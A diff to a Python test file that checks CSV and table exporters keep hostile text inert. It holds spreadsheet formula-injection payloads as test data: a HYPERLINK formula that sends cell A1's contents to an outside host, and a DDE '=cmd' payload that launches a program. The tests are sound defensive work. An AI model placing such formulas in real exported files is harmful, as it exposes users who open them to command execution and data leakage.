@@ -26,7 +26,8 @@ from tests.builders import an_analyst, note, tag, wish_split
 from tests.db.filling import claims, expose, load
 
 ALL = Selection()
-OF_ANALYSTS = sorted(name for name, exporter in EXPORTERS.items() if not exporter.settles)
+TABLES = ["csv-long", "csv-wide", "adjudicated"]  # of tags; tests/db/test_evidence_exports.py
+OF_ANALYSTS = [name for name in TABLES if not EXPORTERS[name].settles]
 HOSTILE = [
     '=HYPERLINK("http://example.org/"&A1,"open")',
     "+1 is a vote.\nThe next line, still the same claim.",
@@ -260,7 +261,7 @@ def test_an_article_that_is_not_there_is_refused(store: Store, name: str) -> Non
 
 
 @pytest.mark.parametrize("raw", [False, True])
-@pytest.mark.parametrize("name", sorted(EXPORTERS))
+@pytest.mark.parametrize("name", TABLES)
 def test_hostile_text_comes_out_as_it_went_in(store: Store, name: str, raw: bool) -> None:
     article = load(store, HOSTILE, "=cmd|' /C calc'!A0")
     eve = an_analyst(store, "@eve, =1")
@@ -281,7 +282,7 @@ def test_hostile_text_comes_out_as_it_went_in(store: Store, name: str, raw: bool
         assert set(column(rows, "shares")) == {"=tag 1.00"}
 
 
-@pytest.mark.parametrize("name", sorted(EXPORTERS))
+@pytest.mark.parametrize("name", TABLES)
 def test_no_cell_of_the_default_file_would_run(store: Store, name: str) -> None:
     article = load(store, HOSTILE, "=title")
     eve = an_analyst(store, "=eve")
